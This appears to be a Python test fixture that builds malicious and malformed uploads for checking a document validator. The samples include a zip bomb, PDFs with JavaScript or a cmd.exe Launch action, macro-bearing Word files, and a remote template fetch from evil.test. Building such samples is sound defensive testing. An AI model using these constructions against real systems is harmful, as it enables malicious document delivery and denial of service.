"""Papers for tests: sound ones, and files that only look like one."""

import io
import zipfile

from tests.photos import pictures

PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
TYPES = (
    b'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="main+xml"/></Types>'
)


def pdf(text: str = "", *, body: bytes = b"") -> bytes:
    """A PDF like no other with another text."""
    return PDF.replace(b"trailer", b"% " + text.encode() + b"\n" + body + b"\ntrailer")


def office(kind: str = "docx", *, types: bytes = TYPES, **parts: bytes) -> bytes:
    """What Word or Excel saves, with more parts where named: "/" is written "__"."""
    main = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}[kind]
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr(main, b"<document/>")
        for name, part in parts.items():
            archive.writestr(name.replace("__", "/"), part)
    return content.getvalue()


def bomb() -> bytes:
    """A Word file of a few kilobytes that unpacks to two hundred megabytes."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        with archive.open("word/document.xml", "w") as part:
            for _ in range(200):
                part.write(b"\0" * 1_000_000)
    return content.getvalue()


def flood() -> bytes:
    """A Word file of thousands of parts."""
    return office(**{f"word__p{number}.xml": b"" for number in range(2_100)})


def with_password() -> bytes:
    """An archive whose parts are encrypted, as its directory says."""
    content = bytearray(office())
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = content.find(sign)
        while start >= 0:
            content[start + at] |= 1
            start = content.find(sign, start + 4)
    return bytes(content)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
REMOTE = (
    b'<Relationships><Relationship Target="http://evil.test/t.dotm" TargetMode="External"/></Relationships>'
)

# Twenty and more hostile or odd files: what each comes to, whatever its name says.
VERDICTS: dict[str, tuple[bytes, str]] = {
    "nothing at all": (b"", "empty"),
    "more than ten megabytes": (PDF + b"\0" * (10 * 1024 * 1024), "too_large"),
    "a page with a script, called contract.pdf": (b"<html><script>alert(1)</script></html>", "not_a_paper"),
    "a picture with a script": (pictures.SVG_SCRIPT, "not_a_paper"),
    "a GIF that is a script": (pictures.GIF_SCRIPT, "not_a_paper"),
    "a program": (b"MZ" + b"\0" * 400, "not_a_paper"),
    "a RAR archive": (b"Rar!\x1a\x07\x01\x00" + b"\0" * 100, "not_a_paper"),
    "plain text": ("合同正文".encode(), "not_a_paper"),
    "a PDF behind a page": (b"<html>" + PDF, "not_a_paper"),
    "half a PDF": (PDF[: len(PDF) // 2], "broken"),
    "a PDF with a program": (pdf(body=b"2 0 obj<</S/JavaScript/JS(app.alert)>>endobj"), "carries_something"),
    "a PDF with a program whose name is hidden": (
        pdf(body=b"2 0 obj<</S/J#61va#53cript>>endobj"),
        "carries_something",
    ),
    "a PDF that starts a program": (pdf(body=b"2 0 obj<</S/Launch/F(cmd.exe)>>endobj"), "carries_something"),
    "a PDF with another file inside": (
        pdf(body=b"2 0 obj<</EmbeddedFiles 3 0 R>>endobj"),
        "carries_something",
    ),
    "an old .doc": (OLE, "old_or_locked"),
    "a Word file with a password": (with_password(), "old_or_locked"),
    "a Word file with macros": (office(**{"word__vbaProject.bin": b"x"}), "carries_something"),
    "a Word file that says it has macros": (
        office(types=TYPES.replace(b"main", b"macroEnabled.main")),
        "carries_something",
    ),
    "a Word file that carries another file": (office(word__embeddings__a=b"MZ"), "carries_something"),
    "a Word file that fetches a template": (
        office(**{"word___rels__settings.xml.rels": REMOTE}),
        "carries_something",
    ),
    "a zip bomb": (bomb(), "unpacks_too_large"),
    "thousands of parts": (flood(), "unpacks_too_large"),
    "an archive of something else": (office().replace(b"word/document", b"page/document"), "not_a_paper"),
    "half an archive": (office()[:200], "broken"),
    "a part twice": (
        office(word__a=b"1", word__b=b"2").replace(b"word/b", b"word/a"),
        "broken",
    ),
    "a photo of an iPhone": (pictures.HEIC, "heic"),
    "half a photo": (pictures.photo()[:400], "broken"),
    "a picture that claims a billion pixels": (pictures.png_that_claims(40_000, 40_000), "too_many_pixels"),
    "a picture drawn in hundreds of passes": (pictures.jpeg_of_many_passes(), "broken"),
}
